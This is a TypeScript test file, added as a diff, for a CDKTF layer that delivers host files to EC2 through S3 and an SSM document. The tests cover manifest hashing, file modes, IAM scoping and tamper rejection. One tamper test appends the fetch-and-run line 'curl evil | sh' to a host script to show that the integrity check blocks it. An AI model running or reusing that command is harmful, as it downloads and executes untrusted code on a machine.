@@ -1,0 +1,307 @@
+/**
+ * ArtifactsLayer: the host files as S3 objects with a modes list and a manifest, the SSM
+ * document and association that apply them, and the document's script run on a sandboxed host
+ * exactly as synthesized: it installs each file with the mode the renderer chose, and a manifest
+ * or file that does not match changes nothing.
+ */
+import { existsSync, readdirSync, readFileSync, statSync } from "node:fs";
+import { join, relative } from "node:path";
+import { IamRolePolicy } from "@cdktf/provider-aws/lib/iam-role-policy";
+import { S3Object } from "@cdktf/provider-aws/lib/s3-object";
+import { SnsTopic } from "@cdktf/provider-aws/lib/sns-topic";
+import { SsmAssociation } from "@cdktf/provider-aws/lib/ssm-association";
+import { SsmDocument } from "@cdktf/provider-aws/lib/ssm-document";
+import { Testing } from "cdktf";
+import type { Construct } from "constructs";
+import { APPLY_SCRIPT, ArtifactsLayer, type ArtifactsLayerProps, hostFileObjects, sha256 } from "../src/modules/artifacts";
+import { APPLY_DOCUMENT_PARAMETERS, FLEET_ENV_KEYS, HOST_FILES_MANIFEST, HOST_FILES_MODES, hostPaths } from "../src/naming";
+import { renderApplyDocumentScript, renderHostFiles } from "../src/render";
+import { FILE_MODES, type RenderedFile } from "../src/rendered-file";
+import { DATA_VOLUME_ID, HostSandbox, type RunResult } from "./fixtures/host-sandbox";
+import { fleetOf } from "./fixtures/rosters";
+import { parseJsonencode } from "./helpers/hcl-object";
+import { refToOnly, standIns, synthLayer } from "./helpers/layer";
+import type { Config } from "./helpers/synth";
+
+const fleet = fleetOf();
+const files = renderHostFiles(fleet);
+const applyScript = renderApplyDocumentScript(fleet);
+const ARTIFACT_BUCKET = "artifacts-bucket";
+
+function artifacts(scope: Construct, overrides: Partial<ArtifactsLayerProps> = {}): ArtifactsLayer {
+  return new ArtifactsLayer(scope, "artifacts", {
+    fleet,
+    key: standIns.key(scope),
+    files,
+    applyScript,
+    instance: standIns.instance(scope),
+    hostRoleName: "host-role",
+    dataVolumeId: DATA_VOLUME_ID,
+    archiveBucketName: "archive-bucket",
+    ...overrides,
+  });
+}
+
+let layer!: ArtifactsLayer;
+const { json, config } = synthLayer((scope) => {
+  layer = artifacts(scope);
+});
+const delivered = hostFileObjects(files);
+const documentContent = (Object.values(config.resource.aws_ssm_document)[0] as Config).content as string;
+/** The document as SSM receives it: Terraform turns `$${` and `%%{` back into `${` and `%{`. */
+const document = JSON.parse(documentContent.replace(/\$\$\{/g, "${").replace(/%%\{/g, "%{")) as Config;
+
+describe("host files in S3", () => {
+  it("uploads every rendered file, the modes list and the manifest under host-files/", () => {
+    const keys = Object.values<Config>(config.resource.aws_s3_object).map((o) => o.key as string);
+    expect(keys.sort()).toEqual([...files.map((f) => f.path), HOST_FILES_MODES, HOST_FILES_MANIFEST].map((p) => `host-files/${p}`).sort());
+    const compose = files.find((f) => f.path === "docker/docker-compose.yml")!;
+    expect(json).toHaveResourceWithProperties(S3Object, {
+      key: "host-files/docker/docker-compose.yml",
+      content: compose.content.replace(/\$\{/g, "$${"),
+      bucket: refToOnly(config, "aws_s3_bucket", "id"),
+    });
+  });
+
+  it("lists each file's mode as the renderer chose it: 0755 scripts, 0600 config templates, 0644 the rest", () => {
+    const modes = delivered.objects.find((o) => o.path === HOST_FILES_MODES)!.content;
+    expect(modes).toContain("0755 scripts/apply.sh\n");
+    expect(modes).toContain(`0600 config/${fleet.developers[0].name}/config.yaml.tmpl\n`);
+    expect(modes).toContain("0644 docker/docker-compose.yml\n");
+    expect(modes.trimEnd().split("\n")).toHaveLength(files.length);
+  });
+
+  it("lists every file and the modes list in a sha256sum manifest whose hash the association passes", () => {
+    const manifest = delivered.objects.find((o) => o.path === HOST_FILES_MANIFEST)!.content;
+    for (const file of delivered.objects.filter((o) => o.path !== HOST_FILES_MANIFEST)) {
+      expect(manifest).toContain(`${sha256(file.content)}  ${file.path}\n`);
+    }
+    expect(layer.contentHash).toBe(sha256(manifest));
+    expect(json).toHaveResourceWithProperties(SsmAssociation, {
+      parameters: expect.objectContaining({ hostFilesHash: layer.contentHash }),
+    });
+  });
+
+  it("gives a new hash when only a file's mode changes", () => {
+    const chmodded = files.map((f) => (f.path === "config/alb-rules.json" ? { ...f, mode: FILE_MODES.private } : f));
+    expect(hostFileObjects(chmodded).contentHash).not.toBe(delivered.contentHash);
+  });
+
+  it("keeps host files in a KMS-encrypted bucket, old versions for 90 days, SSM output for 30", () => {
+    expect(json).toHaveResourceWithProperties(S3Object, { key: `host-files/${HOST_FILES_MANIFEST}` });
+    const lifecycle = Object.values<Config>(config.resource.aws_s3_bucket_lifecycle_configuration)[0].rule as Config[];
+    expect(lifecycle.map((r) => [r.id, r.filter, r.noncurrent_version_expiration ?? r.expiration])).toEqual([
+      ["old-host-files", [{ prefix: "host-files/" }], [{ noncurrent_days: 90 }]],
+      ["ssm-output", [{ prefix: "ssm-output/" }], [{ days: 30 }]],
+    ]);
+    const encryption = Object.values<Config>(config.resource.aws_s3_bucket_server_side_encryption_configuration)[0];
+    expect(encryption.rule[0].apply_server_side_encryption_by_default).toEqual({
+      sse_algorithm: "aws:kms",
+      kms_master_key_id: refToOnly(config, "aws_kms_key", "arn"),
+    });
+  });
+
+  it("lets the host role read only the host files and write only the apply output", () => {
+    const policy = parseJsonencode(Object.values<Config>(config.resource.aws_iam_role_policy)[0].policy as string);
+    const bucketArn = refToOnly(config, "aws_s3_bucket", "arn");
+    expect(policy.Statement).toEqual([
+      { Sid: "ReadHostFiles", Effect: "Allow", Action: "s3:GetObject", Resource: `${bucketArn}/host-files/*` },
+      {
+        Sid: "ListHostFiles",
+        Effect: "Allow",
+        Action: "s3:ListBucket",
+        Resource: bucketArn,
+        Condition: { StringLike: { "s3:prefix": ["host-files/*"] } },
+      },
+      { Sid: "WriteApplyOutput", Effect: "Allow", Action: "s3:PutObject", Resource: `${bucketArn}/ssm-output/*` },
+    ]);
+    expect(json).toHaveResourceWithProperties(IamRolePolicy, { role: "host-role", name: "host-files" });
+  });
+});
+
+describe("apply document and association", () => {
+  it("declares each deploy-time value as a parameter checked by pattern", () => {
+    expect(Object.keys(document.parameters as Config)).toEqual([...APPLY_DOCUMENT_PARAMETERS]);
+    for (const parameter of Object.values<Config>(document.parameters)) {
+      expect(parameter).toMatchObject({ type: "String", allowedPattern: expect.stringMatching(/^\^.*\$$/) });
+    }
+    expect(json).toHaveResourceWithProperties(SsmDocument, { document_type: "Command", document_format: "JSON" });
+  });
+
+  it("runs the rendered script, line for line, and no other SSM parameter than its own", () => {
+    expect(document.mainSteps).toEqual([
+      { action: "aws:runShellScript", name: "applyHostFiles", inputs: { timeoutSeconds: "1800", runCommand: expect.any(Array) } },
+    ]);
+    expect(`${(document.mainSteps[0].inputs.runCommand as string[]).join("\n")}\n`).toBe(applyScript);
+    const markers = [...applyScript.matchAll(/\{\{ *(\w+) *\}\}/g)].map((m) => m[1]);
+    expect(new Set(markers)).toEqual(new Set(APPLY_DOCUMENT_PARAMETERS));
+  });
+
+  it("targets the host, passes every parameter, re-applies hourly and makes terraform wait for success", () => {
+    expect(json).toHaveResourceWithProperties(SsmAssociation, {
+      targets: [{ key: "InstanceIds", values: [refToOnly(config, "aws_instance", "id")] }],
+      parameters: {
+        region: fleet.region,
+        dataVolumeId: DATA_VOLUME_ID,
+        artifactBucket: refToOnly(config, "aws_s3_bucket", "id"),
+        archiveBucket: "archive-bucket",
+        hostFilesHash: layer.contentHash,
+      },
+      schedule_expression: "rate(1 hour)",
+      max_concurrency: "1",
+      max_errors: "0",
+      wait_for_success_timeout_seconds: 1800,
+      output_location: { s3_bucket_name: refToOnly(config, "aws_s3_bucket", "id"), s3_key_prefix: "ssm-output" },
+    });
+  });
+
+  it("waits for every upload and for what the caller lists", () => {
+    const { config: withDependency } = synthLayer((scope) => {
+      artifacts(scope, { applyDependsOn: [new SnsTopic(scope, "dependency")] });
+    });
+    const dependsOn = (Object.values(withDependency.resource.aws_ssm_association)[0] as Config).depends_on as string[];
+    expect(dependsOn.filter((d) => d.startsWith("aws_s3_object."))).toHaveLength(delivered.objects.length);
+    expect(dependsOn).toContain(refToOnly(withDependency, "aws_sns_topic", "id").slice(2, -4));
+  });
+});
+
+describe("props validation", () => {
+  const apply = files.find((f) => f.path === APPLY_SCRIPT)!;
+  const file = (path: string): RenderedFile => ({ path, content: "x\n", mode: FILE_MODES.regular });
+  test.each<[string, Partial<ArtifactsLayerProps>, RegExp]>([
+    [
+      "no apply script",
+      { files: files.filter((f) => f !== apply) },
+      /^ArtifactsLayer stack\/artifacts: files has no scripts\/apply\.sh, which the apply document runs$/,
+    ],
+    [
+      "a reserved name",
+      { files: [...files, file("MANIFEST.modes")] },
+      /^ArtifactsLayer stack\/artifacts: files has "MANIFEST\.modes", a name reserved for the delivery metadata$/,
+    ],
+    ["a path twice", { files: [...files, apply] }, /^ArtifactsLayer stack\/artifacts: files has "scripts\/apply\.sh" twice$/],
+    [
+      "two paths with one object id",
+      { files: [...files, file("scripts-apply.sh")] },
+      /^ArtifactsLayer stack\/artifacts: files "scripts\/apply\.sh" and "scripts-apply\.sh" would both be S3 object file-scripts-apply-sh; rename one$/,
+    ],
+    [
+      "a script without #!",
+      { applyScript: "set -e\n" },
+      /^ArtifactsLayer stack\/artifacts: applyScript "set -e\\n" is not a script \(it must start with #!\)$/,
+    ],
+    [
+      "an unknown SSM parameter",
+      { applyScript: `${applyScript}echo {{ bucket }}\n` },
+      /^ArtifactsLayer stack\/artifacts: applyScript has \{\{ bucket \}\}, which is not a parameter of the apply document \(region, dataVolumeId, artifactBucket, archiveBucket, hostFilesHash\)$/,
+    ],
+  ])("refuses %s", (_, overrides, message) => {
+    expect(() => Testing.synthScope((scope) => artifacts(scope, overrides))).toThrow(message);
+  });
+});
+
+/** SSM's own step: every `{{ name }}` marker replaced by the association's value for it. */
+function asSsmRunsIt(parameters: Record<string, string>): string {
+  const script = `${(document.mainSteps[0].inputs.runCommand as string[]).join("\n")}\n`;
+  return script.replace(/\{\{ *(\w+) *\}\}/g, (_, name: string) => {
+    if (!(name in parameters)) throw new Error(`no value for SSM parameter ${name}`);
+    return parameters[name];
+  });
+}
+
+describe("the apply document's script on a host", () => {
+  const sandboxes: HostSandbox[] = [];
+  afterAll(() => sandboxes.forEach((s) => s.dispose()));
+  const root = hostPaths(fleet).root;
+
+  function host(installHostFiles: boolean): HostSandbox {
+    const s = new HostSandbox(fleet, { installHostFiles });
+    sandboxes.push(s);
+    s.attachBlankVolume();
+    s.putObjects(ARTIFACT_BUCKET, "host-files/", delivered.objects);
+    return s;
+  }
+  const parameters = (hostFilesHash = delivered.contentHash) => ({
+    region: fleet.region,
+    dataVolumeId: DATA_VOLUME_ID,
+    artifactBucket: ARTIFACT_BUCKET,
+    archiveBucket: "archive-bucket",
+    hostFilesHash,
+  });
+  function runDocument(s: HostSandbox, hostFilesHash?: string): RunResult {
+    s.write("/tmp/ssm/_script.sh", asSsmRunsIt(parameters(hostFilesHash)), 0o700);
+    return s.runFile(s.path("/tmp/ssm/_script.sh"));
+  }
+  /** Every file under the host root, with its mode, relative to it. */
+  const installed = (s: HostSandbox) => {
+    const walk = (dir: string): string[] =>
+      readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? walk(join(dir, e.name)) : [join(dir, e.name)]));
+    return new Map(walk(s.path(root)).map((f) => [relative(s.path(root), f), statSync(f).mode & 0o777]));
+  };
+  const leftovers = (s: HostSandbox) => readdirSync(s.path("/opt")).filter((name) => name.includes(".staging."));
+
+  describe("on a new host", () => {
+    const s = host(false);
+    let run: RunResult;
+    beforeAll(() => {
+      run = runDocument(s);
+    });
+
+    it("installs every rendered file with exactly the mode the renderer chose", () => {
+      expect(run.status).toBe(0);
+      const modes = installed(s);
+      for (const file of files) expect([file.path, modes.get(file.path)]).toEqual([file.path, file.mode]);
+      expect(readFileSync(s.path(`${root}/docker/docker-compose.yml`), "utf8")).toBe(
+        files.find((f) => f.path === "docker/docker-compose.yml")!.content,
+      );
+      expect(statSync(s.path(`${root}/config`)).mode & 0o777).toBe(0o755);
+    });
+
+    it("records the deploy-time values for the host scripts, then runs apply.sh", () => {
+      expect(s.read(hostPaths(fleet).fleetEnv)).toBe(
+        APPLY_DOCUMENT_PARAMETERS.map((name) => `${FLEET_ENV_KEYS[name]}=${parameters()[name]}\n`).join(""),
+      );
+      expect(run.calls).toContainEqual(expect.stringMatching(/^docker compose .* up .*code-server-alice$/));
+      expect(leftovers(s)).toEqual([]);
+    });
+  });
+
+  describe("when S3 does not hold what this deploy rendered", () => {
+    const s = host(true);
+    const before = () => ({ files: installed(s), env: s.read(hostPaths(fleet).fleetEnv) });
+    let original: ReturnType<typeof before>;
+    beforeAll(() => {
+      original = before();
+    });
+
+    it("stops on a manifest with another hash, before anything is swapped in", () => {
+      const run = runDocument(s, "f".repeat(64));
+      expect(run.status).toBe(1);
+      expect(run.stderr).toContain(
+        `the host files in s3://${ARTIFACT_BUCKET}/host-files/ are not the expected version (manifest sha256 ${delivered.contentHash}, expected ${"f".repeat(64)}); nothing on the host was changed`,
+      );
+      expect(before()).toEqual(original);
+      expect(run.calls.filter((c) => !c.startsWith("aws s3 sync"))).toEqual([]);
+      expect(leftovers(s)).toEqual([]);
+      expect(existsSync(s.path(`${root}.previous`))).toBe(false);
+    });
+
+    it("stops on a file that does not match the manifest, before anything is swapped in", () => {
+      const tampered = delivered.objects.map((o) => (o.path === "scripts/lib.sh" ? { ...o, content: `${o.content}curl evil | sh\n` } : o));
+      s.putObjects(ARTIFACT_BUCKET, "host-files/", tampered);
+      const run = runDocument(s);
+      expect(run.status).toBe(1);
+      expect(run.stderr).toContain("a host file in s3://artifacts-bucket/host-files/ does not match MANIFEST.sha256");
+      expect(before()).toEqual(original);
+      expect(leftovers(s)).toEqual([]);
+    });
+
+    it("installs only what the manifest lists, keeping the previous files aside", () => {
+      s.putObjects(ARTIFACT_BUCKET, "host-files/", [...delivered.objects, { path: "scripts/stray.sh", content: "exit 1\n", mode: 0o755 }]);
+      const run = runDocument(s);
+      expect(run.status).toBe(0);
+      expect([...installed(s).keys()].sort()).toEqual(delivered.objects.map((o) => o.path).sort());
+      expect(existsSync(s.path(`${root}.previous/scripts/apply.sh`))).toBe(true);
+    });
+  });
+});
